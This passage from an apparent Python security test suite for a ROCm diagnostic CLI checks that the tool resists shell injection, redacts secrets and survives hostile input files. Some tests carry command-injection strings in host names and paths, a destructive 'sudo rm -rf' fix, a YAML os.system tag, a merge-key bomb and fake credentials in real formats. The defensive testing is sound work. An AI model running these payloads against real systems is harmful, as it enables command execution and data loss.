                                  "2026-12-01T10:00:01+0000 n kernel: amdgpu 0000:28:00.0;touch PWNED;#: ring "
                                  "gfx_0.0.0 "
                                  "timeout, signaled seq=57638, emitted seq=57641\n")
    return doctor_pastes(box, "--only", "health")


@fresh("IJ05", "S3-1", "injection", "compare: another GPU model on a node whose host name is `n3$(touch PWNED)`")
def ij05(box: Box) -> Outcome:
    def odd(doc: dict) -> None:
        for key in ("rocminfo", "amd-smi-static"):
            cmd = doc["facts"]["commands"][key]
            cmd["stdout"] = cmd["stdout"].replace("MI300X", "MI250X" + PAYLOAD.replace("\n", " ").replace('"', ""))
    docs = []
    for i, host in enumerate(("n1", "n2", "n3$(touch PWNED);touch PWNED2")):
        doc = amd_bundle()
        doc["facts"]["platform"]["node"] = host
        if i == 2:
            odd(doc)
        docs.append(doc)
    return compare_pastes(box, bundles_dir(box, "cmp", docs))


@fresh("IJ06", "S3-1", "injection", "compare: a recorded check id `probe.x;touch PWNED;#` that fails on one node")
def ij06(box: Box) -> Outcome:
    def odd(doc: dict) -> None:
        doc["facts"]["recorded_results"] = [recorded(id="probe.x;touch PWNED;#", status="fail", area="probe")]

    def others(doc: dict) -> None:
        doc["facts"]["recorded_results"] = [recorded(id="probe.x;touch PWNED;#", status="pass", area="probe")]
    docs = []
    for i in range(3):
        doc = base_bundle()
        doc["facts"]["platform"]["node"] = f"n{i}"
        (odd if i == 2 else others)(doc)
        docs.append(doc)
    return compare_pastes(box, bundles_dir(box, "cmp", docs))


@fresh("IJ07", "S3-1", "injection", "doctor --bundle: a recorded fix of allowed words that runs code "
       "(python -c, sudo sh)")
def ij07(box: Box) -> Outcome:
    doc = base_bundle()
    doc["facts"]["recorded_results"] = [
        recorded(fix={"kind": "shell", "text": "python -c 'import os; os.system(\"touch PWNED\")'", "why": "x",
                      "file": ""}),
        recorded(id="probe.gemm", area="probe", fix={"kind": "shell", "text": "sudo rm -rf ~/PWNED_HOME", "why": "",
                                                     "file": ""})]
    box.json("b.json", doc)
    ran = box.rocmcheck("doctor", "--bundle", "b.json", "--fixes-only")
    problems = basic(ran, codes=(0, 1, 3))
    runnable = [ln for ln in ran.out.splitlines() if MARKER in ln and not ln.lstrip().startswith("#")]
    if runnable:
        problems.append(f"a bundle's command is printed as a line to paste: {runnable[0][:90]!r}")
    return verdict(problems, f"exit {ran.rc}; the bundle's commands are not offered as lines to paste")


@fresh("IJ08", "S3-1", "injection", "compare: the odd node's recorded fix is arbitrary code in allowed words")
def ij08(box: Box) -> Outcome:
    docs = []
    for i in range(3):
        doc = base_bundle()
        doc["facts"]["platform"]["node"] = f"n{i}"
        doc["facts"]["recorded_results"] = [recorded(
            id="probe.gemm", area="probe", status="fail" if i == 2 else "pass",
            fix={"kind": "shell", "text": "python -c 'import os; os.system(\"touch PWNED\")'", "why": "", "file": ""})]
        docs.append(doc)
    ran = box.rocmcheck("compare", str(bundles_dir(box, "cmp", docs)))
    problems = basic(ran, codes=(0, 1))
    runnable = [ln for ln in paste_block(ran.out).splitlines() if MARKER in ln and not ln.lstrip().startswith("#")]
    if runnable:
        problems.append(f"a bundle's command is printed as a line to paste: {runnable[0][:90]!r}")
    return verdict(problems, f"exit {ran.rc}; the odd node's recorded command is not offered to paste")


def build_env_eval(box: Box, fmt: str, env_extra: dict[str, str]) -> Ran:
    root = env_extra.get("ROCM_PATH", "/opt/rocm")
    box.fake_prints("hipconfig", "HIP version: 6.2.41133\nROCM_PATH : " + root + "\n")
    return box.rocmcheck("build-env", "--arch", "gfx942", "--format", fmt, env=box.env(**env_extra))


@fresh("IJ09", "S3-2", "injection", "eval \"$(rocmcheck build-env)\" with ROCM_PATH and HIP_PATH holding commands",
       fast=True)
def ij09(box: Box) -> Outcome:
    root = box.path("r$(touch PWNED)`touch PWNED_BT`;touch PWNED_SC")
    (root / "bin").mkdir(parents=True)
    ran = build_env_eval(box, "sh", {"ROCM_PATH": str(root), "HIP_PATH": str(root) + "\ntouch PWNED_NL"})
    problems = basic(ran, codes=(0, 1, 2))
    pasted, lines = pasted_problems(box, ran.out)
    return verdict(problems + pasted, f"exit {ran.rc}; {lines} lines evaluated, nothing from the paths ran")


@fresh("IJ10", "S3-2", "injection", "build-env --format dockerfile/dotenv: a newline in ROCM_PATH adds no line")
def ij10(box: Box) -> Outcome:
    problems = []
    for fmt, bad in (("dockerfile", "RUN touch PWNED"), ("dotenv", "PWNED_VAR=1")):
        ran = build_env_eval(box, fmt, {"ROCM_PATH": f"/opt/rocm\n{bad}"})
        problems += basic(ran, codes=(0, 1, 2))
        if any(ln.strip().startswith(bad.split()[0]) for ln in ran.out.splitlines()):
            problems.append(f"{fmt}: a line starts with the payload ({bad!r})")
    return verdict(problems, "no line of either format starts with the payload")


@fresh("IJ11", "S3-2", "injection", "doctor: a tool with a missing #! interpreter in a PATH folder named "
       "`b;touch PWNED;#`")
def ij11(box: Box) -> Outcome:
    folder = box.path("b;touch PWNED;#")
    folder.mkdir()
    (folder / "rocminfo").write_text("#!/nonexistent/python9\n")
    (folder / "rocminfo").chmod(0o755)
    env = box.env()
    env["PATH"] = f"{folder}{os.pathsep}{env['PATH']}"
    return doctor_pastes(box, env=env)


@fresh("IJ12", "S3-28", "injection", "lint: training YAML named `t;touch PWNED;#.yaml` (FORCE_TORCHRUN fix)")
def ij12(box: Box) -> Outcome:
    box.json("ds.json", {"train_micro_batch_size_per_gpu": 1, "zero_optimization": {"stage": 2}})
    name = "t;touch PWNED;#.yaml"
    box.write(name, "model_name_or_path: m\nstage: sft\ndo_train: true\nfinetuning_type: lora\ndeepspeed: ds.json\n")
    ran = box.rocmcheck("lint", "--gpus", "1", name)
    problems = basic(ran, codes=(0, 1, 2))
    pasted, lines = pasted_problems(box, paste_block(ran.out))
    return verdict(problems + pasted, f"exit {ran.rc}; {lines} fix line(s) pasted, nothing from the name ran")


def suggestion_case(folder: str) -> Callable[[Box], Outcome]:
    return lambda box: deepspeed_suggestion(box, folder)


for _id, _folder in (("IJ13", "a: b"), ("IJ14", "it's [x] {y}"), ("IJ15", "-d &a *b !t %p @q")):
    fresh(_id, "S3-28", "injection", f"lint: the deepspeed: suggestion for a folder named {_folder!r}")(
        suggestion_case(_folder))


@fresh("IJ16", "S3-1", "injection", "plan --model: a folder named `m;touch PWNED;#` (plan's fixes)")
def ij16(box: Box) -> Outcome:
    config = json.loads((TINY_MODEL / "config.json").read_text())
    config.update(hidden_size=8192, intermediate_size=28672, num_hidden_layers=80, num_attention_heads=64,
                  num_key_value_heads=8, vocab_size=128256)
    box.json("m;touch PWNED;#/config.json", config)
    ran = box.rocmcheck("plan", "--model", str(box.path("m;touch PWNED;#")), "--gpu", "mi300x")
    problems = basic(ran, codes=(0, 1))
    pasted, lines = pasted_problems(box, paste_block(ran.out))
    return verdict(problems + pasted, f"exit {ran.rc}; {lines} fix line(s) pasted, nothing from the path ran")


@fresh("IJ17", "S3-1", "injection", "monitor: a watched command holding $() and a newline; its fix block pasted")
def ij17(box: Box) -> Outcome:
    ran = live_monitor(box, "--quiet", "--out", "o",
                       command=["sh", "-c", "exit 3", "sh", "$(touch PWNED)", "a\ntouch PWNED_NL"])
    problems = basic(ran, codes=(3,))
    pasted, lines = pasted_problems(box, paste_block(ran.err))
    return verdict(problems + pasted, f"exit {ran.rc}; {lines} fix line(s) pasted, nothing from the command ran")


@fresh("IJ18", "S3-1", "injection", "recipes write into a folder named `d;touch PWNED;#`: the next steps pasted")
def ij18(box: Box) -> Outcome:
    ran = box.rocmcheck("recipes", "write", "llama2-7b-full-sft", "d;touch PWNED;#")
    problems = basic(ran, codes=(0, 1))
    pasted, lines = pasted_problems(box, paste_block(ran.out))
    runnable = [ln for ln in ran.out.splitlines() if ln.lstrip().startswith(("llamafactory-cli", "FORCE_TORCHRUN",
                                                                              "deepspeed ", "accelerate "))]
    for line in runnable:
        pasted += box.paste(line + "\n").problems()
    return verdict(problems + pasted, f"exit {ran.rc}; {lines + len(runnable)} command line(s) pasted, "
                                      "nothing from the folder name ran")


@fresh("IJ19", "S3-1", "injection", "doctor --bundle: a kernel-log finding whose device field is a command")
def ij19(box: Box) -> Outcome:
    doc = amd_bundle()
    doc["facts"]["commands"]["kernel-log-journalctl"] = {
        "argv": ["journalctl"], "returncode": 0, "stderr": "", "timed_out": False, "not_found": False, "error": None,
        "duration_s": 0.1, "timeout_s": 20, "interpreter_missing": False,
        "stdout": "2026-12-01T10:00:00+0000 n kernel: amdgpu 0000:0b:00.0`touch PWNED`: amdgpu: [gfxhub] page fault "
                  "(src_id:0 ring:24 vmid:8 pasid:32792)\n"}
    return replay_pastes(box, doc)



# ---------------------------------------------------------------- secrets: other shapes, positions and places

FRESH_REDACTION = {  # id: (where, the line, what must not appear)
    "SE01": ("env", "HIP_AZ=DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=AzKeySECRETse01abc+/==;"
             "EndpointSuffix=core.windows.net", "AzKeySECRETse01"),
    "SE02": ("tool", "X-Api-Key: ApiKeySECRETse02abcdef0123", "ApiKeySECRETse02"),
    "SE03": ("env", "HF_MONGO=mongodb+srv://admin:MongoSECRETse03@cluster0.example.net/db", "MongoSECRETse03"),
    "SE04": ("env", "HF_ENDPOINT2=https://h.example/x?x=1&access_token=ya29.OAuthSECRETse04abc&y=2",
             "OAuthSECRETse04"),
    "SE05": ("env", 'HIP_SA={"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\\nMIIEvSECRETse05'
             '\\n-----END PRIVATE KEY-----\\n", "client_email": "x@y.iam.gserviceaccount.com"}', "MIIEvSECRETse05"),
    "SE06": ("tool", "using databricks host with dapi0123456789abcdef0123456789abcde6", "dapi0123456789abcdef"),
    "SE07": ("tool", "HIP_PASSWORD=CrlfSECRETse07\r\nHIP_NEXT=1", "CrlfSECRETse07"),
    "SE08": ("tool", '{"password": "a\\"b SECRETse08 c", "user": "u"}', "SECRETse08"),
    "SE09": ("tool", "token: 'two words SECRETse09'", "SECRETse09"),
    "SE10": ("tool", "//registry.npmjs.org/:_authToken=NpmSECRETse10abcdef", "NpmSECRETse10"),
    "SE11": ("env", "HIP_GIT=ssh://git:SshSECRETse11@host.example:22/repo.git", "SshSECRETse11"),
    "SE12": ("tool", "Cookie: session=CookieSECRETse12abcdef; theme=dark", "CookieSECRETse12"),
    "SE13": ("tool", '{"gpu": 0, "hf_Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2Ji1Hg0FeDc": {"value": 1}}', "Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2"),
    "SE14": ("tool", "token \x1b[1;31mghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8\x1b[0m (coloured)",
             "j0K1l2M3n4O5p6Q7r8"),
    "SE15": ("tool", "export AWS_SESSION_TOKEN=IQoJb3JpZ2luX2VjSECRETse15+AAAAAA//////////wEaCXVz", "SECRETse15"),
    "SE16": ("tool", "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", "TwL2iGABf9DHoTf"),
}


def fresh_redaction_run() -> dict[str, str]:
    """As redaction_run, for FRESH_REDACTION: the secrets in the environment and in hipconfig --full's output."""
    if "fresh-redaction" not in _SHARED:
        box = Box(SCRATCH, "fresh-redaction")
        lines = ["HIP version: 6.2.41133-dd7f95766", "== Environment Variables"]
        env = box.env()
        for where, line, _ in FRESH_REDACTION.values():
            lines.append(line)
            if where == "env":
                name, _, value = line.partition("=")
                env[name] = value
        box.fake_prints("hipconfig", "\n".join(lines))  # no newline at the end: the last secret ends the text
        ran = doctor(box, "-v", "--out", "b.json", env=env)
        bundle = box.path("b.json").read_text() if box.path("b.json").exists() else ""
        again = box.rocmcheck("doctor", "--bundle", "b.json", "-v", "--json")
        strip = lambda text: __import__("re").sub(r"\\u001b\[[0-9;]*[A-Za-z]|\x1b\[[0-9;]*[A-Za-z]", "", text)
        _SHARED["fresh-redaction"] = {"bundle": strip(bundle), "report": strip(ran.both), "replay": strip(again.both),
                                      "problems": "; ".join(basic(ran, codes=(0, 1, 3)))}
    return _SHARED["fresh-redaction"]  # type: ignore[return-value]


def fresh_redaction_case(case: str) -> Callable[[Box], Outcome]:
    def run(box: Box) -> Outcome:
        texts = fresh_redaction_run()
        where, line, secret = FRESH_REDACTION[case]
        problems = [texts["problems"]] if texts["problems"] else []
        if not texts["bundle"]:
            problems.append("no bundle written")
        for name in ("bundle", "report", "replay"):
            if secret in texts[name]:
                problems.append(f"{secret[:20]!r} in the {name}")
        return verdict(problems, f"{line[:48]!r} redacted in the bundle, the -v report and the replay")
    return run


for _case, (_where, _line, _secret) in FRESH_REDACTION.items():
    fresh(_case, "S3-8", "secrets", f"redaction ({_where}): {_line[:60]!r}")(fresh_redaction_case(_case))


@fresh("SE17", "S3-8", "secrets", "a secret in a kernel log line (journalctl) stays out of the bundle and report")
def se17(box: Box) -> Outcome:
    box.fake_prints("journalctl", "2026-12-01T10:00:00+0000 n kernel: audit: op=login password=KlogSECRETse17 res=0\n"
                                  "2026-12-01T10:00:01+0000 n kernel: usb 1-1: token hf_"
                                  "Qw3Er4Ty5Ui6Op7As8Df9Gh0Jk1"
                                  "Lz2Xc3Vb\n")
    ran = doctor(box, "-v", "--out", "b.json", "--only", "health")
    bundle = box.path("b.json").read_text() if box.path("b.json").exists() else ""
    problems = basic(ran, codes=(0, 1, 3)) + leaks([bundle, ran.both], ["KlogSECRETse17", "Qw3Er4Ty5Ui6Op7As8Df9"])
    return verdict(problems, "redacted in the bundle's kernel log and in the report")


@fresh("SE18", "S3-7", "secrets", "lint: api keys and tokens inside DeepSpeed and training configs are not echoed")
def se18(box: Box) -> Outcome:
    secrets = ["WandbSECRETse18abcdef0123", "hf_" + "Mn8Bv7Cx6Za5Sd4Fg3Hj2Kl1Qw0Er9Ty8U", "CometSECRETse18xyz"]
    box.json("ds.json", {"train_micro_batch_size_per_gpu": 1, "wandb": {"enabled": True, "api_key": secrets[0]},
                         "comet": {"enabled": False, "api_key": secrets[2]}, "zero_optimisation": {"stage": 2}})
    box.write("t.yaml", "model_name_or_path: m\nstage: sft\ndo_train: true\nfinetuning_type: lora\n"
                        f"hub_token: {secrets[1]}\nhub_tokn: {secrets[1]}\ndeepspeed: ds.json\n")
    look, seen = cmdline_watch(secrets[0])
    ran = box.rocmcheck("lint", "t.yaml", during=look)
    again = box.rocmcheck("lint", "--json", "t.yaml")
    problems = basic(ran, codes=(0, 1)) + leaks([ran.both, again.both], secrets)
    if seen:
        problems.append(f"a secret is in /proc/{seen[0]}/cmdline")
    return verdict(problems, f"exit {ran.rc}; in neither the text nor the --json output nor any command line")


@fresh("SE19", "S3-7", "secrets", "lint: an accelerate config with an inline deepspeed_config holding a key")
def se19(box: Box) -> Outcome:
    secret = "AccelSECRETse19abcdef012345"
    box.write("acc.yaml", "compute_environment: LOCAL_MACHINE\ndistributed_type: DEEPSPEED\nnum_processes: 8\n"
                          "mixed_precision: bf16\ndeepspeed_config:\n  zero_stage: 2\n"
                          f"  comet_api_key: {secret}\n")
    look, seen = cmdline_watch(secret)
    ran = box.rocmcheck("lint", "--consumer", "accelerate", "acc.yaml", during=look)
    problems = basic(ran, codes=(0, 1, 2)) + leaks([ran.both], [secret])
    if seen:
        problems.append(f"the secret is in /proc/{seen[0]}/cmdline")
    return verdict(problems, f"exit {ran.rc}; not in the output, not on a command line")


@fresh("SE20", "S3-13", "secrets", "monitor: --password VALUE, NAME=VALUE words, a URL password, a Bearer header")
def se20(box: Box) -> Outcome:
    secrets = ["Hunter2SECRETse20", "WandbSECRETse20xyz", "UrlPwSECRETse20", "BearerSECRETse20abcdef0123"]
    return monitor_secrets(box, ["sh", "-c", "sleep 1", "sh", "--password", secrets[0], f"WANDB_API_KEY={secrets[1]}",
                                 f"https://u:{secrets[2]}@h.example/x", "-H", f"Authorization: Bearer {secrets[3]}"],
                           secrets)


@fresh("SE21", "S3-29", "secrets", "compare: hand-edited bundles with secrets in kernel, python, GPU model and host")
def se21(box: Box) -> Outcome:
    secrets = ["KernSECRETse21", "PySECRETse21", "ghp_" + "Z9y8X7w6V5u4T3s2R1q0P9o8N7m6L5k4J3i2", "HostSECRETse21"]

    def odd(doc: dict) -> None:
        doc["facts"]["platform"]["kernel"] = f"6.8.0 password={secrets[0]}"
        doc["facts"]["platform"]["python"] = f"3.11.7 token={secrets[1]}"
        doc["facts"]["probes"]["torch"]["version"] = f"2.13.0 {secrets[2]}"
        doc["facts"]["platform"]["node"] = f"node3 password={secrets[3]}"
    folder = three_nodes(box, odd)
    ran = box.rocmcheck("compare", str(folder), "-v")
    again = box.rocmcheck("compare", str(folder), "--json")
    problems = basic(ran, codes=(0, 1)) + leaks([ran.both, again.both], secrets)
    return verdict(problems, f"exit {ran.rc}; none in the table, findings, fixes or --json")


@fresh("SE22", "S3-29", "secrets", "doctor --bundle: a hand-edited bundle whose recorded results hold secrets")
def se22(box: Box) -> Outcome:
    secrets = ["RecSECRETse22pw", "hf_" + "Po9Iu8Yt7Re6Wq5As4Df3Gh2Jk1Lz0Xc9V", "EvSECRETse22"]
    doc = base_bundle()
    doc["facts"]["recorded_results"] = [recorded(summary=f"loss nan; password={secrets[0]}",
                                                 evidence=[f"HF_TOKEN={secrets[1]}", f"api_key: {secrets[2]}"],
                                                 fix={"kind": "note", "text": f"token {secrets[1]}", "why": "",
                                                      "file": ""})]
    doc["facts"]["env"]["HF_TOKEN"] = secrets[1]
    box.json("b.json", doc)
    ran = box.rocmcheck("doctor", "--bundle", "b.json", "-v")
    again = box.rocmcheck("doctor", "--bundle", "b.json", "--json")
    problems = basic(ran, codes=(0, 1, 3)) + leaks([ran.both, again.both], secrets)
    return verdict(problems, f"exit {ran.rc}; redacted in the text and --json replays")


@fresh("SE23", "S3-7", "secrets", "lint: a TrainingArguments file's hub_token is not on the checking child's "
       "command line")
def se23(box: Box) -> Outcome:
    secret = "hf_" + "Ta1Rg2Ss3Hu4Bt5Ok6En7Se8Cr9Et0Xy1Z"
    box.json("args.json", {"output_dir": "o", "per_device_train_batch_size": 1, "bf16": True, "hub_token": secret,
                           "push_to_hub": False, "deepspeed": {"train_micro_batch_size_per_gpu": "auto"}})
    look, seen = cmdline_watch(secret)
    ran = box.rocmcheck("lint", "--consumer", "hf-trainer", "args.json", during=look)
    problems = basic(ran, codes=(0, 1, 2)) + leaks([ran.both], [secret])
    if seen:
        problems.append(f"the secret is in /proc/{seen[0]}/cmdline")
    return verdict(problems, f"exit {ran.rc}; not in the output, not on a command line")



# ---------------------------------------------------------------- inputs: every input path, hostile

def hostile_path(box: Box, kind: str, name: str) -> str:
    """Make box/name one of: fifo, zero (a link to /dev/zero), dir, loop, dangling, tilde (a path under a user
    that does not exist), deep (100 000 nested lists), nonutf8, huge-int, nul, utf16, big (9 MiB)."""
    path = box.path(name)
    path.parent.mkdir(parents=True, exist_ok=True)
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "zero":
        os.symlink("/dev/zero", path)
    elif kind == "dir":
        path.mkdir()
    elif kind == "loop":
        os.symlink(path.name, path)
    elif kind == "dangling":
        os.symlink(box.path("nowhere") / "x", path)
    elif kind == "tilde":
        return "~nosuchuser/" + name
    elif kind == "deep":
        path.write_text(deep_json())
    elif kind == "nonutf8":
        path.write_bytes(b'{"a": "\xff\xfe\xfd"}\n')
    elif kind == "huge-int":
        path.write_text('{"train_micro_batch_size_per_gpu": 1' + "0" * 5000 + "}")
    elif kind == "nul":
        path.write_bytes(b'{"train_micro_batch_size_per_gpu": 1}\x00\x00\x00')
    elif kind == "utf16":
        path.write_bytes('{"train_micro_batch_size_per_gpu": 1}'.encode("utf-16"))
    elif kind == "big":
        path.write_text('{"k": "' + "x" * (9 << 20) + '"}')
    else:
        raise ValueError(kind)
    return str(path)


INPUT_KINDS = ("fifo", "zero", "dir", "loop", "dangling", "tilde", "deep", "nonutf8", "huge-int", "nul", "utf16",
               "big")


def input_sweep(argv_for: Callable[[Box, str], list[str]], kinds: Iterable[str] = INPUT_KINDS, *,
                name: str = "in.json", codes: tuple[int, ...] = (1, 2, 3),
                max_s: float = 30) -> Callable[[Box], Outcome]:
    """One run per hostile kind of the same input: each answers promptly, no traceback, a non-zero exit."""
    def run(box: Box) -> Outcome:
        problems, shown = [], []
        for kind in kinds:
            sub = Box(box.dir, kind)
            path = hostile_path(sub, kind, name)
            ran = sub.rocmcheck(*argv_for(sub, path), timeout=max_s + 30)
            for p in basic(ran, codes=codes, max_s=max_s):
                problems.append(f"{kind}: {p}")
            shown.append(f"{kind} {ran.rc}")
        return verdict(problems, "; ".join(shown))
    return run


fresh("IN01", "S3-6", "inputs", "lint FILE: a FIFO, /dev/zero, a folder, a loop, a dangling link, ~user, deep, "
      "non-UTF-8, a 5000-digit int, NULs, UTF-16, 9 MiB", limit_s=400)(
    input_sweep(lambda box, p: ["lint", "--consumer", "deepspeed", p]))
fresh("IN02", "S3-6", "inputs", "lint: a training YAML's `deepspeed:` naming each hostile kind", limit_s=400)(
    input_sweep(lambda box, p: ["lint", str(box.write("t.yaml", "model_name_or_path: m\nstage: sft\ndo_train: true\n"
                                                      f"finetuning_type: lora\ndeepspeed: {yaml_quote(p)}\n"))]))
fresh("IN03", "S3-6", "inputs", "lint: an accelerate config's deepspeed_config_file naming each hostile kind",
      limit_s=400)(
    input_sweep(lambda box, p: ["lint", "--consumer", "accelerate", str(box.write(
        "acc.yaml", "compute_environment: LOCAL_MACHINE\ndistributed_type: DEEPSPEED\nnum_processes: 2\n"
                    f"deepspeed_config:\n  deepspeed_config_file: {yaml_quote(p)}\n"))], codes=(0, 1, 2, 3)))
fresh("IN04", "S3-21", "inputs", "plan --model naming each hostile kind (as config.json)", limit_s=400)(
    input_sweep(lambda box, p: ["plan", "--model", p, "--gpu", "mi300x"], codes=(2,), name="config.json"))
fresh("IN05", "S3-12", "inputs", "doctor --bundle naming each hostile kind", limit_s=400)(
    input_sweep(lambda box, p: ["doctor", "--bundle", p], codes=(2,)))
fresh("IN06", "S3-23", "inputs", "compare naming each hostile kind beside a good bundle", limit_s=400)(
    input_sweep(lambda box, p: ["compare", p, str(box.json("good.json", base_bundle()))], codes=(2,)))
fresh("IN07", "S3-12", "inputs", "monitor --replay naming each hostile kind (as memory-x.jsonl)", limit_s=400)(
    input_sweep(lambda box, p: ["monitor", "--replay", p], codes=(2,), name="memory-x.jsonl"))
fresh("IN08", "S3-6", "inputs", "smoke-train --deepspeed naming each hostile kind", limit_s=500, owner="train")(
    input_sweep(lambda box, p: ["smoke-train", "--steps", "10", "--no-profile", "--deepspeed", p], codes=(2,),
                max_s=45))


def bad_config(config: object) -> Callable[[Box], Outcome]:
    def run(box: Box) -> Outcome:
        box.write("config.json", config if isinstance(config, str) else json.dumps(config))
        ran = box.rocmcheck("plan", "--model", "config.json", "--gpu", "mi300x")
        return verdict(refused(ran), f"refused: {ran.last_line()[:100]}")
    return run


_BASE_CONFIG = json.loads((TINY_MODEL / "config.json").read_text()) if (TINY_MODEL / "config.json").exists() else {}
for _id, (_title, _config) in {
    "IN09": ("hidden_size 10**400 (a JSON integer)", json.dumps(_BASE_CONFIG).replace(
        f'"hidden_size": {_BASE_CONFIG.get("hidden_size")}', '"hidden_size": 1' + "0" * 400)),
    "IN10": ("hidden_size NaN", json.dumps(_BASE_CONFIG).replace(
        f'"hidden_size": {_BASE_CONFIG.get("hidden_size")}', '"hidden_size": NaN')),
    "IN11": ("num_hidden_layers -32", {**_BASE_CONFIG, "num_hidden_layers": -32}),
    "IN12": ("hidden_size true, a list, a string", {**_BASE_CONFIG, "hidden_size": True, "vocab_size": [32000],
                                                     "num_hidden_layers": "22"}),
    "IN13": ("a list at the top level", [_BASE_CONFIG]),
}.items():
    fresh(_id, "S3-22", "inputs", f"plan --model config.json: {_title}")(bad_config(_config))


def damaged_bundle(change: Callable[[dict], None]) -> Callable[[Box], Outcome]:
    def run(box: Box) -> Outcome:
        doc = base_bundle()
        change(doc)
        box.write("b.json", json.dumps(doc, allow_nan=True))
        ran = box.rocmcheck("doctor", "--bundle", "b.json")
        problems = basic(ran, codes=(0, 1, 2, 3))
        if ran.rc == 2:
            problems += refused(ran)
        return verdict(problems, f"exit {ran.rc}: {ran.last_line()[:100]}")
    return run


def _set(path: str, value: object) -> Callable[[dict], None]:
    def change(doc: dict) -> None:
        target = doc["facts"]
        parts = path.split(".")
        for part in parts[:-1]:
            target = target.setdefault(part, {})
        target[parts[-1]] = value
    return change


for _id, (_title, _change) in {
    "IN14": ("commands.rocminfo is a string", _set("commands.rocminfo", "rocminfo output")),
    "IN15": ("probes.torch is a list", _set("probes.torch", [1, 2])),
    "IN16": ("collected_at 10**400", _set("collected_at", 10**400)),
    "IN17": ("limits.memlock_soft NaN and shm_bytes -Infinity",
             lambda d: (_set("limits.memlock_soft", float("nan"))(d), _set("limits.shm_bytes", float("-inf"))(d))),
    "IN18": ("a recorded result with status 'exploded' and a fix of kind 'rm'",
             _set("recorded_results", [recorded(status="exploded", fix={"kind": "rm", "text": "x", "why": "",
                                                                        "file": ""})])),
    "IN19": ("devices: a device whose mode is 10**30 and gid a string",
             _set("devices./dev/kfd", {"exists": True, "readable": True, "writable": True, "mode": 10**30,
                                       "gid": "root"})),
    "IN20": ("known: every group 'all' but the groups missing", lambda d: [d["facts"].pop(k, None) for k in
                                                                          ("commands", "probes", "env", "files")]),
    "IN21": ("torch devices: 10 000 GPUs named 1 MB each", _set("probes.torch.devices", [
        {"index": i, "name": "x" * 100} for i in range(10_000)])),
}.items():
    fresh(_id, "S3-12", "inputs", f"doctor --bundle: {_title}")(damaged_bundle(_change))


def tool_output(tool: str, text: str, *args: str) -> Callable[[Box], Outcome]:
    def run(box: Box) -> Outcome:
        if tool.startswith("amd-smi"):
            amd_machine(box, smi=text)
        elif tool == "nvidia-smi":
            nvidia_machine(box, rows=text.splitlines())
        elif tool == "rocm-smi":
            box.fake("rocm-smi", f"cat {shlex.quote(str(box.write('fake-data/rocm-smi.json', text)))}\n")
        else:
            box.fake_prints(tool, text)
        ran = doctor(box, *args, timeout=90)
        problems = basic(ran, codes=(0, 1, 3), max_s=60)
        if "Verdict:" not in ran.out:
            problems.append("no verdict line")
        return verdict(problems, f"exit {ran.rc} in {ran.seconds:.1f} s: the report printed")
    return run


for _id, (_title, _tool, _text) in {
    "IN22": ("amd-smi static --json nested 100 000 deep", "amd-smi", deep_json()),
    "IN23": ("amd-smi static --json: a GPU whose every field is 100 000 deep", "amd-smi",
             '[{"gpu": 0, "asic": ' + "{\"a\": " * 50_000 + "1" + "}" * 50_000 + "}]"),
    "IN24": ("rocm-smi --json nested 100 000 deep", "rocm-smi", '{"card0": ' + deep_json() + "}"),
    "IN25": ("nvidia-smi: memory 1e999, inf and 400 digits; index 10**50", "nvidia-smi",
             "0, NVIDIA H200, 1e999, 580.95.05, 9.0, GPU-a\n1, NVIDIA H200, inf, 580.95.05, 9.0, GPU-b\n"
             "2, NVIDIA H200, " + "9" * 400 + ", 580.95.05, 9.0, GPU-c\n" + "1" + "0" * 50 +
             ", NVIDIA H200, 143771, 580.95.05, 9.0, GPU-d"),
    "IN26": ("rocminfo: 10**30 compute units and a 10**40 KB pool", "rocminfo",
             rocminfo_text(cus="1" + "0" * 30, pool="1" + "0" * 40)),
    "IN27": ("rocminfo: NUL bytes, lone surrogates' bytes and invalid UTF-8", "rocminfo",
             rocminfo_text(name="MI300X\x00\udcff".encode("utf-8", "surrogateescape").decode("latin-1"))),
}.items():
    fresh(_id, "S3-14", "inputs", f"doctor: {_title}")(tool_output(_tool, _text))


@fresh("IN28", "S3-6", "inputs", "lint: `!!python/object/apply:os.system` tags and a merge-key bomb run nothing")
def in28(box: Box) -> Outcome:
    box.write("a.yaml", "train_micro_batch_size_per_gpu: !!python/object/apply:os.system ['touch PWNED_YAML']\n")
    bomb = "a: &a {x: 1, y: 1, z: 1}\n" + "".join(f"b{i}: &b{i} {{<<: [*{'a' if i == 0 else f'b{i - 1}'}]," 
                                                    f" <<: *{'a' if i == 0 else f'b{i - 1}'}}}\n" for i in range(30))
    box.write("b.yaml", bomb)
    problems = []
    for name in ("a.yaml", "b.yaml"):
        ran = box.rocmcheck("lint", "--consumer", "deepspeed", name)
        problems += [f"{name}: {p}" for p in basic(ran, codes=(1, 2), max_s=20)]
    if list(box.dir.rglob("PWNED*")):
        problems.append("the YAML tag ran a command")
    return verdict(problems, "both refused; no tag ran anything")


@fresh("IN29", "S3-23", "inputs", "compare: a folder holding a FIFO, a loop and a dangling link named *.json")
def in29(box: Box) -> Outcome:
    folder = bundles_dir(box, "cmp", [base_bundle(), base_bundle()])
    os.mkfifo(folder / "f.json")
    os.symlink("l.json", folder / "l.json")
    os.symlink(box.path("nowhere.json"), folder / "d.json")
    ran = box.rocmcheck("compare", str(folder))
    problems = basic(ran, codes=(0, 1, 2), max_s=20)
    return verdict(problems, f"exit {ran.rc}: {ran.last_line()[:100]}")


@fresh("IN30", "S3-3", "inputs", "triage's readers never raise: bytes, None, NUL, surrogates, 10 MB, every kind")
def in30(box: Box) -> Outcome:
    code = r'''
import json
from rocmcheck.triage.readers.paste import split_paste, KINDS, Block
from rocmcheck.triage.readers.paste_read import read_block
bad = []
inputs = [None, b"\xff\xfe\x00rocminfo", "x\x00" * 1000, "\ud800\udfff" * 100, 12345, "```\n" * 3,
          "ROCk module version 6 is loaded\n" + "\x00" * 5000, "a" * (10 << 20)]
for text in inputs:
    try:
        for block in split_paste(text):
            read_block(block)
    except Exception as exc:
        bad.append(f"split/read of {type(text).__name__}: {type(exc).__name__}: {exc}"[:150])
for kind in KINDS:
    for text in ("", "\x00", "{" * 5000, "[" * 100000, "9" * 5000, "\ud800", ":" * 10000):
        try:
            read_block(Block(kind=kind, text=text, first_line=1, last_line=1))
        except Exception as exc:
            bad.append(f"read_block({kind}): {type(exc).__name__}: {exc}"[:150])
